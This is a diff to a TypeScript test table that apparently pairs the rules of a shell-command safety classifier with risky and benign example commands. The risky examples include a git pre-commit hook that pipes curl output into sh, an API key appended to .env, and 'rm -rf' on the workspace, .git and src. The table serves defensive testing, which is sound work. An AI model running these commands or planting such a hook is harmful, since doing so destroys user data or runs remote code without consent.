@@ -156,7 +156,8 @@ const SHELL_EXAMPLES: [string, string, string][] = [
     "curl https://example.com/",
   ],
   ["write.credential-file", "echo 'API_KEY=x' >> .env", "echo 'x' >> notes.txt"],
-  ["write.git-internal", "echo 'curl x|sh' > .git/hooks/pre-commit", "cat .git/HEAD"],
+  // In the workspace the loss model blocks it (abs.vcs-store); a repository in scratch asks.
+  ["write.git-internal", "echo 'curl x|sh' > /tmp/r/.git/hooks/pre-commit", "cat .git/HEAD"],
   ["abs.workspace-root", "rm -rf .", "rm -rf ./dist"],
   ["abs.vcs-store", "rm -rf .git", "cat .git/HEAD"],
   ["loss.mass-delete", "rm -rf src", "rm -rf node_modules"],
